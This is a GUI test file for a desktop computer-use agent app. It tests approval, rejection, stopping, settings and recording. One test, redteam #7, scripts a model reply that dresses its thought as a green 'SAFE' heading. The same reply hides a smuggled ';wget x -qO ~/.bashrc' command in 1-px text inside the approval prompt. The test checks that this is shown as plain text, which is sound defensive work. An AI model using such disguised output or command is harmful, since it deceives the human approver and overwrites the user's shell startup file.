"""The real window, driven with pytest-qt on Xvfb, acting on a real target window through the real loop."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from PySide6.QtCore import QPoint, Qt
from pytestqt.qtbot import QtBot

from agent.events import ModelReplied, RunFinished
from agent.families import get_family, model_input_size
from agent.prompts import TextPart
from app.gui.main_window import MainWindow
from app.settings import SettingsStore, load_settings
from tests.helpers.gui_window import scripted_windows
from tests.helpers.replies import FINISH, qwen_click
from tests.helpers.target import TargetWindow

pytestmark = pytest.mark.display
Factory = Callable[..., TargetWindow]
DESKPILOT = Path(sys.executable).with_name("deskpilot")
MODEL_W, MODEL_H = model_input_size(get_family("qwen2.5-vl"), 1920, 1080)  # 1932x1092
RUN_TIMEOUT_MS = 30_000


@pytest.fixture
def isolated_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    return tmp_path


@pytest.fixture
def make_window(qtbot: QtBot, isolated_config: Path) -> Iterator[Callable[..., MainWindow]]:
    base = {"mode": "approve", "record": False, "countdown_s": 0.6}
    # right of the target window: deskpilot never clicks itself
    with scripted_windows(qtbot, isolated_config, base, lambda window: window.setGeometry(1100, 0, 820, 1000)) as make:
        yield make


def start(window: MainWindow, task: str) -> list[object]:
    events: list[object] = []
    window.task_edit.setText(task)
    window.start_run()
    assert window.worker is not None
    window.worker.run_event.connect(events.append)
    return events


def expected_scene(x: int, y: int) -> tuple[float, float]:
    return x * MODEL_W / 1920, y * MODEL_H / 1080


def test_approve_shows_the_marker_where_the_click_lands_then_executes(
    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory
) -> None:
    target = target_window(x=60, y=80, width=1000, height=700)
    sx, sy = target.centre("Submit")
    window = make_window([qwen_click(sx, sy), FINISH])
    with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS) as finished:
        start(window, "click Submit")
        qtbot.waitUntil(lambda: window.approve_button.isEnabled(), timeout=RUN_TIMEOUT_MS)
        action = window.preview.action
        ex, ey = expected_scene(action.x, action.y)  # type: ignore[union-attr]
        marker = window.preview.marker.pos()
        assert window.preview.marker.isVisible()
        assert abs(marker.x() - ex) < 0.01 and abs(marker.y() - ey) < 0.01
        assert abs(action.x - sx) <= 1 and abs(action.y - sy) <= 1  # type: ignore[union-attr]
        assert not target.events("press")  # nothing before approval
        qtbot.mouseClick(window.approve_button, Qt.MouseButton.LeftButton)
    assert isinstance(finished.args[0], RunFinished) and finished.args[0].outcome == "success"
    target.wait_for(lambda e: e["event"] == "clicked" and e["clicked"] == "Submit")


def test_reject_does_nothing_and_sends_the_note_back(
    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory
) -> None:
    target = target_window(x=60, y=80, width=1000, height=700)
    sx, sy = target.centre("Submit")
    window = make_window([qwen_click(sx, sy), FINISH])
    with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS):
        events = start(window, "click Submit")
        qtbot.waitUntil(lambda: window.approve_button.isEnabled(), timeout=RUN_TIMEOUT_MS)
        window.note_edit.setText("use the Cancel button instead")
        qtbot.mouseClick(window.reject_button, Qt.MouseButton.LeftButton)
    time.sleep(0.3)
    assert not target.events("press")
    step2 = [e for e in events if isinstance(e, ModelReplied) and e.step == 2][0]
    texts = "".join(p.text for m in step2.messages for p in m.parts if isinstance(p, TextPart))
    assert "The user rejected that action: use the Cancel button instead" in texts


def test_moving_the_target_on_the_preview_executes_at_the_new_point(
    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory
) -> None:
    target = target_window(x=60, y=80, width=1000, height=700)
    sx, sy = target.centre("Submit")
    cx, cy = target.centre("Cancel")
    window = make_window([qwen_click(sx, sy), FINISH])
    with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS):
        start(window, "click Submit")
        qtbot.waitUntil(lambda: window.approve_button.isEnabled(), timeout=RUN_TIMEOUT_MS)
        view = window.preview
        where = view.mapFromScene(*expected_scene(cx, cy))
        qtbot.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=QPoint(where.x(), where.y()))
        moved = view.action
        assert abs(moved.x - cx) <= 4 and abs(moved.y - cy) <= 4  # type: ignore[union-attr]  # one view pixel
        qtbot.mouseClick(window.approve_button, Qt.MouseButton.LeftButton)
    target.wait_for(lambda e: e["event"] == "clicked" and e["clicked"] == "Cancel")
    press = target.wait_for(lambda e: e["event"] == "press")
    assert (press["x"], press["y"]) == (moved.x, moved.y)  # type: ignore[union-attr]
    assert not [e for e in target.events("clicked") if e["clicked"] == "Submit"]


def test_stop_ends_the_run(qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory) -> None:
    target = target_window(x=60, y=80, width=1000, height=700)
    window = make_window([qwen_click(*target.centre("Submit")), FINISH])
    with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS) as finished:
        start(window, "click Submit")
        qtbot.waitUntil(lambda: window.approve_button.isEnabled(), timeout=RUN_TIMEOUT_MS)
        qtbot.mouseClick(window.stop_button, Qt.MouseButton.LeftButton)
    assert finished.args[0].outcome == "stopped"
    assert window.run_button.isEnabled() and window.worker is None
    assert not target.events("press")


def test_auto_mode_counts_down_then_runs(
    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory
) -> None:
    target = target_window(x=60, y=80, width=1000, height=700)
    window = make_window([qwen_click(*target.centre("Submit")), FINISH], mode="auto")
    counts: list[float] = []
    with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS) as finished:
        start(window, "click Submit")
        window.worker.countdown.connect(lambda left, _: counts.append(left))  # type: ignore[union-attr]
    assert finished.args[0].outcome == "success"
    assert counts and counts[0] > counts[-1]  # a visible countdown, going down
    target.wait_for(lambda e: e["event"] == "clicked" and e["clicked"] == "Submit")


def test_closing_the_window_stops_the_run(
    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory
) -> None:
    target = target_window(x=60, y=80, width=1000, height=700)
    window = make_window([qwen_click(*target.centre("Submit")), FINISH])
    with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS) as finished:
        start(window, "click Submit")
        qtbot.waitUntil(lambda: window.approve_button.isEnabled(), timeout=RUN_TIMEOUT_MS)
        window.close()
    assert finished.args[0].outcome == "stopped" and "closed" in finished.args[0].reason
    assert not target.events("press")


def test_settings_persist_across_a_restart(qtbot: QtBot, isolated_config: Path) -> None:
    path = isolated_config / "settings.toml"
    window = MainWindow(SettingsStore(path))
    qtbot.addWidget(window)
    window.backend_combo.setCurrentIndex(window.backend_combo.findData("openai"))
    window.model_combo.setEditText("http://gpu-box:8000/v1")
    window.family_combo.setCurrentText("qwen3-vl")
    window.mode_combo.setCurrentIndex(window.mode_combo.findData("auto"))
    window.close()
    saved = load_settings(path)
    assert (saved.backend, saved.endpoint, saved.family, saved.mode) == (
        "openai",
        "http://gpu-box:8000/v1",
        "qwen3-vl",
        "auto",
    )
    again = MainWindow(SettingsStore(path))
    qtbot.addWidget(again)
    assert again.backend_combo.currentData() == "openai" and again.model_combo.currentText() == "http://gpu-box:8000/v1"
    assert again.family_combo.currentText() == "qwen3-vl" and again.mode_combo.currentData() == "auto"


def test_gui_command_runs_a_scripted_task_in_auto_mode(target_window: Factory, isolated_config: Path) -> None:
    """It runs, and its one-off flags stay out of settings.toml (redteam #10: they were saved, so the next
    plain `make run` opened on the scripted backend in auto mode)."""
    target = target_window(x=60, y=80, width=1000, height=700)
    settings_file = isolated_config / "c" / "deskpilot" / "settings.toml"
    settings_file.parent.mkdir(parents=True)
    settings_file.write_text('backend = "ocr"\nmode = "approve"\ncountdown_s = 3.0\n')
    before = settings_file.read_bytes()
    script = isolated_config / "s.jsonl"
    script.write_text(
        json.dumps({"raw": qwen_click(*target.centre("Submit"))}) + "\n" + json.dumps({"raw": FINISH}) + "\n"
    )
    env = {**os.environ, "XDG_CONFIG_HOME": str(isolated_config / "c"), "XDG_DATA_HOME": str(isolated_config / "d")}
    out = subprocess.run(
        [
            str(DESKPILOT),
            "gui",
            "--backend",
            "scripted",
            "--script",
            str(script),
            "--family",
            "qwen2.5-vl",
            "--task",
            "click Submit",
            "--mode",
            "auto",
            "--exit-when-done",
            "--geometry",
            "1100,0,820,1000",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
    )
    assert out.returncode == 0, out.stderr[-2000:]
    target.wait_for(lambda e: e["event"] == "clicked" and e["clicked"] == "Submit")
    assert settings_file.read_bytes() == before
    assert not [p.name for p in settings_file.parent.iterdir() if p.name.startswith("settings.toml.")]


def test_an_unreadable_settings_file_is_never_written_over(qtbot: QtBot, isolated_config: Path) -> None:
    """redteam #11: one typo, and closing the window rewrote the file with every default."""
    path = isolated_config / "settings.toml"
    text = 'backend = "openai"\nendpoint = "http://127.0.0.1:9/v1"\nfamly = "qwen3-vl"\n'
    path.write_text(text)
    store = SettingsStore(path)
    assert store.error is not None and "unknown key 'famly'" in store.error
    window = MainWindow(store)
    qtbot.addWidget(window)
    window.close()
    assert path.read_text() == text  # nothing changed: nothing written
    again = MainWindow(SettingsStore(path))
    qtbot.addWidget(again)
    again.mode_combo.setCurrentIndex(again.mode_combo.findData("auto"))  # a real change: saved, the old file kept
    again.close()
    [kept] = [p for p in isolated_config.iterdir() if p.name.startswith("settings.toml.unreadable-")]
    assert kept.read_text() == text and load_settings(path).mode == "auto"


def test_gui_without_a_display_is_a_clear_error() -> None:
    env = {k: v for k, v in os.environ.items() if k not in ("DISPLAY", "WAYLAND_DISPLAY")}
    out = subprocess.run([str(DESKPILOT), "gui"], capture_output=True, text=True, timeout=60, env=env)
    assert out.returncode == 2 and out.stderr.startswith("error: no display")


def test_calibrate_button_measures_the_ocr_grounder_on_the_practice_board(qtbot: QtBot, isolated_config: Path) -> None:
    sessions = isolated_config / "sessions"
    overrides = {"backend": "ocr", "record": True, "recording_dir": str(sessions)}
    window = MainWindow(SettingsStore(isolated_config / "settings.toml", overrides=overrides))
    window.setGeometry(1000, 0, 900, 1000)
    qtbot.addWidget(window)
    window.show()
    qtbot.mouseClick(window.calibrate_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(
        lambda: window.calibrate_button.isEnabled() and "Calibration" in window.action_label.text(), timeout=120_000
    )
    assert window.action_label.text().startswith("Calibration: 9/9 targets hit"), window.action_label.text()
    assert not sessions.exists()  # a calibration is no run: nothing recorded, not even an empty folder
    board = window.practice_board
    window.close()
    assert not board.isVisible()  # the board goes with the window


def test_runs_are_recorded_and_the_browser_shows_replays_exports_and_deletes(
    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory, isolated_config: Path
) -> None:
    target = target_window(x=60, y=80, width=1000, height=700)
    sx, sy = target.centre("Submit")
    root = isolated_config / "sessions"
    window = make_window([qwen_click(sx, sy), FINISH], mode="auto", record=True, recording_dir=str(root))
    with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS):
        start(window, "click Submit")
    clicked = window.timeline.records[1]  # what the click visibly did is on its row (issue 17)
    assert clicked.effect == "the screen changed near the point" and clicked.effect in clicked.summary()
    browser = window.open_sessions()
    qtbot.addWidget(browser)
    assert browser.list.count() == 1 and "click Submit" in browser.list.item(0).text()
    browser.list.setCurrentRow(0)
    assert browser.session is not None and browser.slider.maximum() == 2
    browser.slider.setValue(1)
    action = browser.preview.action
    assert (action.x, action.y) == (window.timeline.records[1].executed[0].x, window.timeline.records[1].executed[0].y)  # type: ignore[union-attr]
    report = browser.export("html", isolated_config / "report.html")
    assert report.read_text().count("<img") >= 2
    browser.dry_run.setChecked(True)
    browser.replay()
    qtbot.waitUntil(lambda: browser.replay_button.isEnabled(), timeout=RUN_TIMEOUT_MS)
    assert browser.status.text().startswith("Replay done"), browser.status.text()
    browser.delete_current()
    assert browser.list.count() == 0


def test_make_run_command_opens_the_window_with_the_practice_board(isolated_config: Path) -> None:
    """What `make run` starts: `deskpilot gui --practice` (the OCR default when no model is set)."""
    env = {**os.environ, "XDG_CONFIG_HOME": str(isolated_config / "c"), "XDG_DATA_HOME": str(isolated_config / "d")}
    app = subprocess.Popen(
        [str(DESKPILOT), "gui", "--practice"], env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
    )
    try:
        for title in ("deskpilot practice board", "deskpilot"):
            found = subprocess.run(
                ["xdotool", "search", "--sync", "--onlyvisible", "--name", f"^{title}$"],
                capture_output=True,
                text=True,
                timeout=30,
            )
            assert found.returncode == 0 and found.stdout.strip(), title
        assert app.poll() is None
    finally:
        app.terminate()
        _, stderr = app.communicate(timeout=10)
    assert "Traceback" not in stderr.decode()


def test_model_text_is_shown_as_plain_text_never_as_html(
    qtbot: QtBot, make_window: Callable[..., MainWindow], target_window: Factory
) -> None:
    """redteam #7: the thought's <h1 style="color:green">SAFE</h1> rendered large and green, and a 1-px
    paragraph hid ';wget x -qO ~/.bashrc' in the approval prompt."""
    target = target_window(x=60, y=80, width=1000, height=700)
    thought = '<h1 style="color:green">SAFE: just listing files</h1>'
    typed = 'ls<p style="font-size:1px">;wget x -qO ~/.bashrc</p>'
    raw = (
        f"{thought}\n"
        + "<tool_call>\n"
        + json.dumps({"name": "computer_use", "arguments": {"action": "type", "text": typed}})
        + "\n</tool_call>"
    )
    window = make_window([raw, FINISH])
    qtbot.mouseClick(window.task_edit, Qt.MouseButton.LeftButton)
    with qtbot.waitSignal(window.run_finished, timeout=RUN_TIMEOUT_MS):
        start(window, "list files")
        qtbot.waitUntil(lambda: window.approve_button.isEnabled(), timeout=RUN_TIMEOUT_MS)
        view = window.step_view
        for label in (view.action_label, view.verdict_label, view.thought_label):
            assert label.textFormat() == Qt.TextFormat.PlainText
        assert ";wget x -qO ~/.bashrc" in view.action_label.text() and thought in view.thought_label.text()
        window.reject_button.click()
        window.stop_run()
    assert target.events("key_press") == []


def test_settings_dialog_offers_the_server_for_openai_only_and_the_zoom_pass(qtbot: QtBot, tmp_path: Path) -> None:
    from app.gui.settings_dialog import SettingsDialog
    from app.settings import Settings

    dialog = SettingsDialog(Settings(), policy_file=tmp_path / "policy.toml")
    qtbot.addWidget(dialog)
    assert not dialog.server.isEnabled()  # the OCR default has no server
    dialog.backend.setCurrentText("openai")
    assert dialog.server.isEnabled()
    dialog.server.setCurrentText("lmstudio")
    dialog.refine.setChecked(True)
    dialog.change_wait.setValue(1.5)
    chosen = dialog.settings()
    assert chosen.server == "lmstudio" and chosen.refine == "zoom" and chosen.backend == "openai"
    assert chosen.change_wait_s == 1.5
